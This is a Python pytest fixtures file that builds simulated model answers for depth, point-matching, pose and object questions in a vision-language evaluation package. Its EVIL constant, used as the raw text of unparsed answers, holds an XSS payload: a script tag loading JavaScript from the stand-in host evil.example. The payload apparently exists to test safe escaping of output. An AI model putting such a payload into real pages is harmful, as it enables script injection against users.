"""Answers as a model might give them, with one unparsed each, on the shipped pictures."""

from dataclasses import replace

import numpy as np
import pytest

from vlm3.assets import Example, load_example
from vlm3.geometry.pose import RelativePose
from vlm3.tasks.answers import DepthAnswer, MatchAnswer, ObjectAnswer, PoseAnswer

EVIL = '<script src="http://evil.example/x.js">alert(1)</script> & $x_{ 你好 \x07'


@pytest.fixture(scope="session")
def example() -> Example:
    return load_example()


@pytest.fixture
def evil() -> str:
    return EVIL


@pytest.fixture
def depth_answer(example: Example) -> DepthAnswer:
    distance_m = 1.1 * example.points_distance_m
    distance_m[0] *= 2
    distance_m[1] = np.nan
    parsed = np.isfinite(distance_m)
    return DepthAnswer(
        xy_px=example.points_xy_px,
        distance_m=distance_m,
        depth_z_m=distance_m,
        parsed=parsed,
        raw_text=tuple(
            f"{d:05.2f}" if ok else EVIL for d, ok in zip(distance_m, parsed, strict=True)
        ),
        prompt=tuple(f"how far is point {i}?" for i in range(len(parsed))),
        protocol="joint",
        intrinsics=("given",),
    )


@pytest.fixture
def match_answer(example: Example) -> MatchAnswer:
    xy_px = example.matches_xy_2_px + np.array((3.0, 4.0))
    xy_px[2] = np.nan
    parsed = np.isfinite(xy_px).all(axis=1)
    return MatchAnswer(
        xy_a_px=example.matches_xy_1_px,
        xy_px=xy_px,
        parsed=parsed,
        raw_text=tuple("1010 0498" if ok else EVIL for ok in parsed),
        prompt=("where is it?",) * len(parsed),
        protocol="joint",
        intrinsics=("given", "given"),
    )


@pytest.fixture
def pose_answer() -> PoseAnswer:
    ypr_deg = np.array([-10.0, -4.0, -3.0])
    direction = np.array([0.0, -0.6, 0.8])
    whole = RelativePose.from_ypr_direction(ypr_deg, direction, 0.5)
    components = ("rotation", "direction", "distance")
    return PoseAnswer(
        yaw_pitch_roll_deg=ypr_deg,
        direction=direction,
        distance_m=0.5,
        cam1_from_cam2=whole.cam1_from_cam2,
        parsed=dict.fromkeys(components, True),
        raw_text=dict.fromkeys(components, "text"),
        prompt={name: f"{name}?" for name in components},
        protocol="joint",
        intrinsics=("given", "given"),
    )


@pytest.fixture
def unread_pose(pose_answer: PoseAnswer) -> PoseAnswer:
    """The same of which nothing was read."""
    return replace(
        pose_answer,
        yaw_pitch_roll_deg=None,
        direction=None,
        distance_m=None,
        cam1_from_cam2=None,
        parsed=dict.fromkeys(pose_answer.parsed, False),
    )


@pytest.fixture
def object_answers(example: Example) -> list[ObjectAnswer]:
    said = [{"value_m": 1.0}, {"value_m": 5.0}, {"region": 1}, {}]
    return [
        ObjectAnswer(
            text="text",
            value_m=values.get("value_m"),
            clock_hour=None,
            yes=None,
            region=values.get("region"),
            parsed=bool(values),
            raw_text="text" if values else EVIL,
            prompt=question.question,
            boxes_xyxy_px=question.boxes_xyxy_px,
            protocol="joint",
            intrinsics=("given",),
        )
        for question, values in zip(example.questions, said, strict=True)
    ]
